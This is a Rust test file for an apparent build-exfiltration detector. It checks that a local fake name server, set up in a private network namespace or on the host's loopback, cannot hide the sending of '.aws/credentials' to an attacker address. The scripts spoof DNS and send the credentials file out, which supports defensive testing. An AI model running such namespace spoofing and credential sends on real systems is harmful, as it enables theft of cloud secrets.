//! Name servers that are not the host's own. A build can give the server's address to a place of its own and answer there: of what
//! is said there nothing is learned. Each time the lie is told, and where nobody denies it the key arrives.

use detector::engine::Verdict;
use detector_tests::{
    fixture::binary,
    name_server::{NameServer, Zone},
    namespace::{OTHER_V4, SINK_V4},
    scene::Scene,
    spent::{arrived, leaks, learned, policy, run, send},
};

type Result = anyhow::Result<()>;

const GOOD: &str = "api.good.test";
const KEY: &str = ".aws/credentials";
/// Words that the lie, once told, is known by.
const TOLD: &str = "the lie was told";

/// Tells that the good name is at the thief's address, by a server at the real one's.
fn lie() -> anyhow::Result<String> {
    let fixture = binary("fixture")?;
    // What a namespace has of its own, and what is the host's, differ: `$SETUP` gives the address.
    Ok(format!(
        "'{}' lie {SINK_V4} {OTHER_V4} getent ahostsv4 {GOOD} | grep -q {OTHER_V4} && echo {TOLD}",
        fixture.display()
    ))
}

/// The lie told in the place that `script` makes does not help a thief.
fn teaches_nothing(script: &str) -> Result {
    for mode in ["enforce", "audit"] {
        let scene = Scene::new()?;
        let _server = NameServer::start(&scene.network.sink, Zone::new().a(GOOD, [SINK_V4]))?;
        let script = [script, "\n", &send(KEY, &OTHER_V4.to_string()), &send(KEY, GOOD)].concat();
        let run = run(&scene, mode, &policy(&[(GOOD, "aws")]), &script)?;
        let (out, err) = (String::from_utf8_lossy(&run.outcome.stdout), String::from_utf8_lossy(&run.outcome.stderr));
        assert!(out.contains(TOLD), "{mode}: {out}{err}");
        let told: Vec<_> = learned(&run).into_iter().collect();
        // The real server's answer is still learned afterwards.
        assert_eq!(told, [(GOOD, SINK_V4)], "{mode}: {err}");
        let expected: &[_] = if mode == "audit" { &[OTHER_V4, SINK_V4] } else { &[SINK_V4] };
        assert_eq!(arrived(&scene, "aws"), expected, "{mode}: {err}");
        assert_eq!((leaks(&run).len(), run.conclusion.verdict), (1, Verdict::Fail), "{mode}: {err}");
    }
    Ok(())
}

/// In a namespace of its own a user may be whoever he likes.
fn in_a_namespace(by: &str) -> anyhow::Result<String> {
    Ok(format!("{by} unshare -rn sh -c \"ip link set lo up; ip addr add {SINK_V4} dev lo; {}\"", lie()?))
}

#[test]
fn a_network_namespace_of_roots_own() -> Result {
    teaches_nothing(&in_a_namespace("")?)
}

#[test]
fn a_network_namespace_of_a_users_own() -> Result {
    teaches_nothing(&in_a_namespace("setpriv --reuid=65534 --regid=65534 --clear-groups")?)
}

/// Root can give the server's address to the host itself: then the answer comes over loopback.
#[test]
fn the_servers_address_on_the_hosts_own_loopback() -> Result {
    let (add, del) = (format!("ip addr add {SINK_V4}/32 dev lo"), format!("ip addr del {SINK_V4}/32 dev lo"));
    teaches_nothing(&format!("{add}\n{}\n{del}", lie()?))
}
